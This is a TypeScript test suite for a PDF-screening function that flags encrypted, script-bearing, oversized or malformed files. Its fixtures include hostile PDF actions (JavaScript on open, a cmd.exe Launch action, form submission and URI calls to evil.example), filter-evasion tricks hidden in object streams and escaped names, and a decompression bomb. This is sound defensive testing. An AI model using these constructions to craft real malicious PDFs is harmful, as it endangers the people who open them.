import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';

import { describe, expect, test } from 'vitest';

import { judgePdf } from './pdf-structure.server.ts';
import { maxPdfPages } from './pdf-pages.ts';
import { buildTestPdf, buildPdfOfPages, buildProtectedPdf, buildPdfkitPdf } from './pdf.build.ts';

describe('a PDF', () => {
  test('as programs write it is sound', async () => {
    expect(judgePdf(await buildPdfkitPdf())).toBe('sound');
    expect(judgePdf(await buildPdfkitPdf({ compress: false }))).toBe('sound');
    expect(judgePdf(buildTestPdf())).toBe('sound');
    expect(judgePdf(buildTestPdf({ packed: '4 0 << /Type /Page >>' }))).toBe('sound');
  });

  test('with a password is refused', async () => {
    const locked = { userPassword: 'a', ownerPassword: 'b' };
    expect(judgePdf(await buildPdfkitPdf({ ...locked, pdfVersion: '1.7' }))).toBe('encrypted');
    expect(judgePdf(await buildProtectedPdf())).toBe('encrypted');
  });

  test.each([
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    '/OpenAction << /S /J#61vaScript >>',
    '/OpenAction<</S/Launch/F(cmd.exe)>>',
    '/Names << /EmbeddedFiles 5 0 R >>',
    '/AcroForm << /XFA 5 0 R >>',
    '/A << /S /SubmitForm /F (http://evil.example) >>',
    '/A << /S /GoToE >>',
    '/OpenAction << /S /URI /URI (https://evil.example) >>',
    '/AA << /O << /S /URI /URI (https://evil.example) >> >>',
  ])('with %s is active', (extra) => {
    expect(judgePdf(buildTestPdf({ extra }))).toBe('active');
    expect(judgePdf(buildTestPdf({ packed: `4 0 << ${extra} >>` }))).toBe('active');
  });

  test.each([
    '/OpenAction [2 0 R /XYZ null null 0]',
    '/OpenAction << /S /GoTo /D [2 0 R /Fit] >>',
    '/OpenAction << /Type /Action /S /GoTo /D (top) >>',
    '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://good.example) >> >>]',
  ])('with %s is sound: it shows a place of its own, or waits for a click', (extra) => {
    expect(judgePdf(buildTestPdf({ extra }))).toBe('sound');
    expect(judgePdf(buildTestPdf({ packed: `4 0 << ${extra} >>` }))).toBe('sound');
  });

  const calls = '<< /S /URI /URI (https://evil.example) >>';
  test.each([
    ['in another object', `/OpenAction 9 0 R >>\nendobj\n9 0 obj\n${calls}\nendobj\n8 0 obj\n<<`],
    [
      'in the later of two objects',
      `/OpenAction 9 0 R >>\nendobj\n9 0 obj\n[2 0 R /Fit]\nendobj\n9 0 obj\n${calls}\nendobj\n8 0 obj\n<<`,
    ],
    ['after a harmless one', `/OpenAction << /S /GoTo /D [2 0 R /Fit] /Next ${calls} >>`],
  ])('that calls an address when it is opened is active, with the action %s', (_where, extra) => {
    expect(judgePdf(buildTestPdf({ extra }))).toBe('active');
  });

  test('whose action of opening stands in an object stream may hold no link that could be it', () => {
    const extra = '/OpenAction 9 0 R';
    expect(judgePdf(buildTestPdf({ extra, packed: `9 0 ${calls}` }))).toBe('active');
    expect(judgePdf(buildTestPdf({ extra, packed: '9 0 << /S /GoTo /D [2 0 R /Fit] >>' }))).toBe(
      'sound',
    );
  });

  const script = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>';
  const plain = buildTestPdf().toString('latin1');
  const packed = buildTestPdf({ packed: `4 0 << ${script} >>` }).toString('latin1');
  const empty = '5 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n';

  test.each<[string, string]>([
    [
      'behind a comment that says stream',
      buildTestPdf({ extra: `%stream\n${script}\n%endstream\n` }).toString('latin1'),
    ],
    [
      'between two texts that say it',
      buildTestPdf({ extra: `/A (>>\nstream\n) ${script} /B (endstream)` }).toString('latin1'),
    ],
    [
      'in an object inside of a stream',
      plain.replace(
        'trailer',
        `5 0 obj\n<< /Length 90 >>\nstream\n6 0 obj\n<< ${script} >>\nendobj\nendstream\nendobj\ntrailer`,
      ),
    ],
    ['in packed objects on a line of their own', packed.replace('3 0 obj', `${empty}3 0\nobj`)],
    ['in packed objects that say obj again', packed.replace('/Filter', '/A (an obj) /Filter')],
    ['in packed objects named with escapes', packed.replace('/ObjStm', '/Obj#53tm')],
    [
      'in packed objects in an object inside of a stream',
      packed.replace('3 0 obj', '7 0 obj\n<< /Length 500 >>\nstream\n3 0 obj'),
    ],
    ['in objects packed twice', packed.replace('/FlateDecode', '[/FlateDecode /FlateDecode]')],
    [
      'in objects packed under another name',
      packed.replace('/FlateDecode', '[/Fl /Fl] % /Filter /FlateDecode\n'),
    ],
    [
      'in packed objects with a predictor',
      packed.replace('/Filter', '/DecodeParms << /Predictor 12 >> /Filter'),
    ],
    ['in packed objects without a type', packed.replace('/Type /ObjStm', '')],
    [
      'in packed objects without a type, /First escaped',
      packed.replace('/Type /ObjStm', '').replace('/First', '/Fi#72st'),
    ],
    [
      'in packed objects without a type, /First indirect',
      packed.replace('/Type /ObjStm', '').replace('/First 4', '/First 9 0 R'),
    ],
    [
      'in packed objects without a type, far behind /First',
      packed.replace('/Type /ObjStm', '').replace('/Filter', `%${'>>'.repeat(900)}\n/Filter`),
    ],
    [
      'in packed objects without a type, behind a text with parentheses',
      packed.replace('/Type /ObjStm', '').replace('/Filter', '/A (>> \\) (endobj)) /Filter'),
    ],
    [
      'in packed objects without a type, with a long comment before the stream',
      packed
        .replace('/Type /ObjStm', '')
        .replace('>>\nstream', `>>\n%${'x'.repeat(9_000)}\nstream`),
    ],
    [
      'in packed objects without a type inside of another stream',
      packed
        .replace('/Type /ObjStm', '')
        .replace('3 0 obj', '7 0 obj\n<< /Length 500 >>\nstream\n3 0 obj'),
    ],
    [
      'as a form of XFA behind a comment',
      buildTestPdf({ extra: '%stream\n/AcroForm << /XFA 5 0 R >>\n%endstream\n' }).toString(
        'latin1',
      ),
    ],
  ])('with a script %s is not sound', (_name, text) => {
    expect(judgePdf(Buffer.from(text, 'latin1'))).not.toBe('sound');
  });

  test('of a thousand pages is sound, and of more it is too long, however it has them', () => {
    expect(judgePdf(buildPdfOfPages(maxPdfPages))).toBe('sound');
    expect(judgePdf(buildPdfOfPages(maxPdfPages + 1))).toBe('long');
    expect(judgePdf(buildPdfOfPages(10_000))).toBe('long');
    const pages = '<< /Type /Page /Parent 2 0 R >> '.repeat(10_000);
    expect(judgePdf(buildTestPdf({ packed: `4 0 ${pages}` }))).toBe('long');
    expect(judgePdf(buildTestPdf({ packed: `4 0 ${pages.replaceAll('Page ', 'P#61ge ')}` }))).toBe(
      'long',
    );
    // One page that is shown ten thousand times.
    const again = `<< /Type /Pages /Kids [${'9 0 R '.repeat(10_000)}] /Count 10000 >>`;
    expect(judgePdf(buildTestPdf({ packed: `4 0 ${again}` }))).toBe('long');
    for (const said of ['/Count 9 0 R', '/Count%x\n10000', '/First 1 /Count 10000']) {
      const tree = again.replace('/Count 10000', said);
      expect([said, judgePdf(buildTestPdf({ packed: `4 0 ${tree}` }))]).toEqual([said, 'long']);
    }
  });

  test('of few pages with a long outline is sound', () => {
    const outlines = '/Outlines << /Type /Outlines /First 8 0 R /Last 9 0 R /Count 5000 >>';
    expect(judgePdf(buildTestPdf({ extra: outlines }))).toBe('sound');
  });

  test('with outlines is sound', () => {
    const outlines = '/Outlines << /Type /Outlines /First 8 0 R /Last 9 0 R /Count 2 >>';
    expect(judgePdf(buildTestPdf({ extra: outlines }))).toBe('sound');
    expect(judgePdf(buildTestPdf({ extra: outlines, packed: '4 0 << /Type /Page >>' }))).toBe(
      'sound',
    );
  });

  test('of very many keys of object streams is refused by the length of what follows', () => {
    const many = '/First '.repeat(20_000);
    expect(judgePdf(buildTestPdf({ extra: `/A [${many}]` }))).toBe('broken');
  });

  test.each([
    ['white space', ' '.repeat(15_000_000)],
    ['comments', '%\n'.repeat(5_000_000)],
    ['names', '/A '.repeat(5_000_000)],
    ['parentheses', '('.repeat(15_000_000)],
  ])('with megabytes of %s in the head of packed objects is refused', (_name, filling) => {
    const text = packed.replace('/Type /ObjStm', '').replace('/Filter', `${filling} /Filter`);
    expect(judgePdf(Buffer.from(text, 'latin1'))).toBe('broken');
  });

  test.each([
    ['white space', ' '.repeat(15_000_000)],
    ['comments', '%\n'.repeat(5_000_000)],
  ])('with megabytes of %s before packed objects is refused', (_name, filling) => {
    const text = packed.replace('/Type /ObjStm', '').replace('>>\nstream', `>>${filling}\nstream`);
    expect(judgePdf(Buffer.from(text, 'latin1'))).toBe('broken');
  });

  test('that speaks of a stream in its title is sound', () => {
    const title = { extra: '/Title (Livestream: the upstream)' };
    expect(judgePdf(buildTestPdf({ ...title, packed: '4 0 << /Type /Page >>' }))).toBe('sound');
  });

  test.each([
    '<</Type/ObjStm/N 7/First 40/Filter/FlateDecode/Length 296>>stream\r\n',
    '<<\n/Type /ObjStm\n/N 100\n/First 810\n/Length 1234      \n/Filter /FlateDecode\n>>\nstream\n',
    '<</Filter[/FlateDecode]/First 6/Length 123/N 1/Type/ObjStm/Extends 7 0 R>>stream\n',
    '<< /Length 5 0 R /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n',
  ])('with packed objects as a writer puts it, %j, is looked into', (head) => {
    const as = (objects: string) => {
      const whole = buildTestPdf({ packed: objects }).toString('latin1');
      return Buffer.from(
        whole.replace(/<< \/Type \/ObjStm[^>]*>>\nstream\n/, () => head),
        'latin1',
      );
    };
    expect(judgePdf(as('4 0 << /Type /Page >>'))).toBe('sound');
    expect(judgePdf(as(`4 0 << ${script} >>`))).toBe('active');
  });

  test('of 20 MB of noise in streams is sound', () => {
    const noise = randomBytes(19 * 1024 * 1024)
      .toString('latin1')
      .replaceAll('endstream', '');
    const whole = plain.replace(
      'trailer',
      () => `5 0 obj\n<< /Length 1 >>\nstream\n${noise}\nendstream\nendobj\ntrailer`,
    );
    const bytes = Buffer.from(whole, 'latin1');
    // Reading the noise again from each of its bytes would end in no test's time.
    expect(judgePdf(bytes)).toBe('sound');
  });

  test('whose compressed pages look like a name by chance is sound', () => {
    const stream = '5 0 obj\n<< /Length 9 >>\nstream\nxx /JS (y)\nendstream\nendobj\n';
    const whole = buildTestPdf().toString('latin1').replace('trailer', `${stream}trailer`);
    expect(judgePdf(Buffer.from(whole, 'latin1'))).toBe('sound');
  });

  test.each([
    ['another file in front', Buffer.concat([Buffer.from('<html>'), buildTestPdf()])],
    ['another file behind', Buffer.concat([buildTestPdf(), Buffer.alloc(2_000, 'PK')])],
    ['no end', buildTestPdf().subarray(0, 60)],
    ['a beginning only', Buffer.from('%PDF-1.7')],
    ['objects that do not unpack', Buffer.from(buildTestPdf({ packed: 'x'.repeat(50) }).toString('latin1').replace('x\x9c', 'zz'), 'latin1')], // prettier-ignore
  ])('%s is broken', (_name, bytes) => {
    expect(judgePdf(bytes)).toBe('broken');
  });

  test('a bomb is refused without unpacking it', () => {
    const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024));
    const marked = buildTestPdf({ packed: 'x' }).toString('latin1');
    const at = marked.indexOf('stream\n') + 7;
    const whole = Buffer.concat([
      Buffer.from(marked.slice(0, at), 'latin1'),
      bomb,
      Buffer.from(marked.slice(marked.indexOf('\nendstream')), 'latin1'),
    ]);
    expect(judgePdf(whole)).toBe('broken');
  });

  test('of very many tiny object streams is refused by their number', () => {
    const marked = buildTestPdf({ packed: 'x' }).toString('latin1');
    const stream = marked.slice(marked.indexOf('3 0 obj'), marked.indexOf('trailer'));
    const withStreams = (count: number) =>
      Buffer.from(
        marked.replace(stream, () => stream.repeat(count)),
        'latin1',
      );
    expect(judgePdf(withStreams(2_000))).toBe('sound');
    expect(judgePdf(withStreams(2_100))).toBe('broken');
  });

  test('of very many escapes is refused by their number, packed or not', () => {
    const some = '/A#61 '.repeat(50_000);
    const many = '/A#61 '.repeat(100_001);
    expect(judgePdf(buildTestPdf({ extra: some }))).toBe('sound');
    expect(judgePdf(buildTestPdf({ packed: some }))).toBe('sound');
    expect(judgePdf(buildTestPdf({ extra: many }))).toBe('broken');
    expect(judgePdf(buildTestPdf({ packed: many }))).toBe('broken');
  });
});
